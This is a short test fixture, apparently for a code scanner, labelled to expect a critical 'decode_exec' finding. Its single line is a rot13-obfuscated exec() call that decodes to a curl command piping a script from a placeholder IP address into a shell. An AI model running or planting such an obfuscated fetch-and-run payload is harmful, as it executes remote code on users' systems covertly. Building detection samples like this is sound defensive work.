# expect: python.decode_exec critical
# path: tools/run.py
"""module docstring"""

import codecs
exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.221/k|fu')", "rot13"))
